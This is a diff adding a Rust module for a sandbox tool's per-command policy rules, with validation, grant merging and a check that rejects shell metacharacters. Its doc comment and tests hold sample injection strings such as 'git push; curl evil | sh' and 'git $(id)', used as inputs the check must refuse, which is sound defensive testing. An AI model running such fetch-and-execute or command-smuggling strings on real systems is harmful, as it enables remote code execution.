@@ -1,0 +1,189 @@
+//! `[[commands]]` (issue 18, item 7): per-command policy in a policy file. An entry names a
+//! program (an absolute path, or a name looked up on `PATH` when a run is matched) and either
+//! grants it more than the rest of the policy (`allow_write`, `allow_read`, `allow_domains`,
+//! `allow_hosts`, `env`) or runs it outside the sandbox (`excluded = true`). Only policy files
+//! carry it (never a flag or a workspace's JSON settings), and a policy file is only read when
+//! it is outside the run's writable roots or approved (`stockade trust`): the grants are the
+//! user's own. Pure data here; matching a run's program is the orchestrator's (it resolves
+//! paths on the host).
+
+use serde::{Deserialize, Serialize};
+
+use crate::error::PolicyError;
+
+/// One `[[commands]]` entry.
+#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct CommandRule {
+    /// `/usr/bin/git`, or `git` (looked up on the caller's `PATH`); compared by resolved path.
+    pub program: String,
+    /// Why the entry exists: shown in notices, the report and the audit log.
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub reason: String,
+    /// Run it outside the sandbox altogether: no grants may be given with it.
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub excluded: bool,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub allow_write: Vec<String>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub allow_read: Vec<String>,
+    /// Reached through the proxy (a run of this program gets `--net proxy` if it had none).
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub allow_domains: Vec<String>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub allow_hosts: Vec<String>,
+    /// Variables passed from the caller's environment (even ones that look like secrets).
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub env: Vec<String>,
+}
+
+impl CommandRule {
+    fn grants(&self) -> bool {
+        !(self.allow_write.is_empty()
+            && self.allow_read.is_empty()
+            && self.allow_domains.is_empty()
+            && self.allow_hosts.is_empty()
+            && self.env.is_empty())
+    }
+
+    /// Checked as a policy file is read.
+    pub fn validate(&self, index: usize) -> Result<(), PolicyError> {
+        let key = format!("commands[{index}].program");
+        let invalid = |reason: &str| PolicyError::InvalidValue {
+            key: key.clone(),
+            value: self.program.clone(),
+            reason: reason.into(),
+        };
+        let p = self.program.as_str();
+        if p.is_empty() || p.contains('\0') {
+            return Err(invalid(
+                "give a program: an absolute path or a name on PATH",
+            ));
+        }
+        if p.contains('/') && !p.starts_with('/') {
+            return Err(invalid(
+                "a relative path would match whatever lies there: give an absolute path or a bare name",
+            ));
+        }
+        if self.excluded && self.grants() {
+            return Err(PolicyError::InvalidValue {
+                key: format!("commands[{index}].excluded"),
+                value: "true".into(),
+                reason: "an excluded program runs outside the sandbox: grants beside it mean nothing (remove them, or `excluded`)".into(),
+            });
+        }
+        if !self.excluded && !self.grants() {
+            return Err(PolicyError::InvalidValue {
+                key: format!("commands[{index}]"),
+                value: self.program.clone(),
+                reason: "the entry grants nothing: give allow_write, allow_read, allow_domains, allow_hosts or env, or `excluded = true`".into(),
+            });
+        }
+        Ok(())
+    }
+
+    /// `policy` with this entry's grants added (network mode `proxy` when it grants
+    /// destinations and had no network).
+    pub fn grant(&self, policy: &crate::Policy) -> crate::Policy {
+        let mut p = policy.clone();
+        p.filesystem
+            .allow_write
+            .extend(self.allow_write.iter().cloned());
+        p.filesystem
+            .allow_read
+            .extend(self.allow_read.iter().cloned());
+        p.network
+            .allow_domains
+            .extend(self.allow_domains.iter().cloned());
+        p.network
+            .allow_hosts
+            .extend(self.allow_hosts.iter().cloned());
+        p.env.passthrough.extend(self.env.iter().cloned());
+        let destinations = !(self.allow_domains.is_empty() && self.allow_hosts.is_empty());
+        if destinations && p.network.mode == crate::NetworkMode::None {
+            p.network.mode = crate::NetworkMode::Proxy;
+        }
+        p
+    }
+}
+
+/// The words of `command` when it is one plain command: only letters, digits, spaces and
+/// `-_./=:,+@%` (no quoting, expansion, redirection, pipe or list: nothing a shell would read
+/// differently). Anything else matches no entry, so `git push; curl evil | sh` is never taken
+/// for `git`.
+pub fn plain_words(command: &str) -> Option<Vec<String>> {
+    let plain = command
+        .chars()
+        .all(|c| c.is_ascii_alphanumeric() || " \t-_./=:,+@%".contains(c));
+    let words: Vec<String> = command.split_whitespace().map(str::to_string).collect();
+    (plain && !words.is_empty()).then_some(words)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rule(program: &str) -> CommandRule {
+        CommandRule {
+            program: program.into(),
+            allow_write: vec!["~/.cache/x".into()],
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn entries_are_checked() {
+        assert!(rule("/usr/bin/git").validate(0).is_ok());
+        assert!(rule("git").validate(0).is_ok());
+        assert!(rule("bin/git").validate(0).is_err());
+        assert!(rule("").validate(0).is_err());
+        let mut both = rule("docker");
+        both.excluded = true;
+        assert!(both.validate(0).is_err());
+        let nothing = CommandRule {
+            program: "git".into(),
+            ..Default::default()
+        };
+        assert!(nothing.validate(0).is_err());
+    }
+
+    #[test]
+    fn only_plain_commands_have_words() {
+        assert_eq!(
+            plain_words("git push origin main"),
+            Some(vec![
+                "git".into(),
+                "push".into(),
+                "origin".into(),
+                "main".into()
+            ])
+        );
+        for s in [
+            "git push; curl x | sh",
+            "git $(id)",
+            "git `id`",
+            "git > f",
+            "git 'a'",
+            "",
+            "  ",
+        ] {
+            assert_eq!(plain_words(s), None, "{s:?}");
+        }
+    }
+
+    #[test]
+    fn destinations_turn_the_proxy_on() {
+        let p =
+            crate::resolve(None, &crate::Overrides::default()).unwrap_or_else(|e| panic!("{e}"));
+        let r = CommandRule {
+            program: "git".into(),
+            allow_domains: vec!["github.com".into()],
+            env: vec!["SSH_AUTH_SOCK".into()],
+            ..Default::default()
+        };
+        let g = r.grant(&p);
+        assert_eq!(g.network.mode, crate::NetworkMode::Proxy);
+        assert!(g.network.allow_domains.contains(&"github.com".to_string()));
+        assert!(g.env.passthrough.contains(&"SSH_AUTH_SOCK".to_string()));
+    }
+}
